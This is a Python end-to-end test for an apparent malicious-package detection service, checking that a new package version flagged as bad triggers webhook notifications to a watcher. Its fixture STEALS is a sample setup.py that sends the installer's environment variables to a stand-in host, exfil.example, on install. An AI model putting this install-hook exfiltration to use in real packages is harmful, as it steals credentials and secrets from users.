"""The whole way: a watch, a new version in the index, its analysis, and a receiver that finds the message genuine."""

from __future__ import annotations

import datetime
import json

import pytest
from django.utils import timezone

from packamal.server.pipeline.run import run_next
from packamal.server.watches import lists
from packamal.server.watches.models import WatchedPackage
from packamal.server.watches.polling import poll
from packamal.server.webhooks.delivering import deliver
from packamal.server.webhooks.models import Event

pytestmark = [pytest.mark.django_db, pytest.mark.allow_hosts(["127.0.0.1"])]
STEALS = """
import os, urllib.request
from setuptools import setup
urllib.request.urlopen("https://exfil.example/", data=repr(dict(os.environ)).encode())
setup()
"""


def test_a_new_version_that_is_bad_reaches_whoever_watches(index, receiver, hooked, person):
    hooked(Event.WATCH_NEW_VERSION, Event.WATCH_TURNED_BAD, Event.ANALYSIS_FINISHED)
    index.add("small", "1.0")
    lists.add("user:person", person, None, ["pkg:pypi/small"])
    poll()
    assert run_next("w")
    index.add("small", "2.0", STEALS)
    WatchedPackage.objects.update(next_at=timezone.now() - datetime.timedelta(seconds=1))
    assert poll() == {"new": 1}
    assert run_next("w")
    while deliver():
        pass
    told = [json.loads(body) for _, body in receiver.accepted]
    assert receiver.refused == []
    assert sorted(one["event"] for one in told) == [
        "analysis.finished",
        "analysis.finished",
        "watch.new_version",
        "watch.turned_bad",
    ]
    (bad,) = (one["data"] for one in told if one["event"] == "watch.turned_bad")
    assert (bad["package"], bad["purl"], bad["previous"]) == ("pkg:pypi/small", "pkg:pypi/small@2.0", "clean")
    assert bad["analysis"]["verdict"]["level"] == bad["level"]
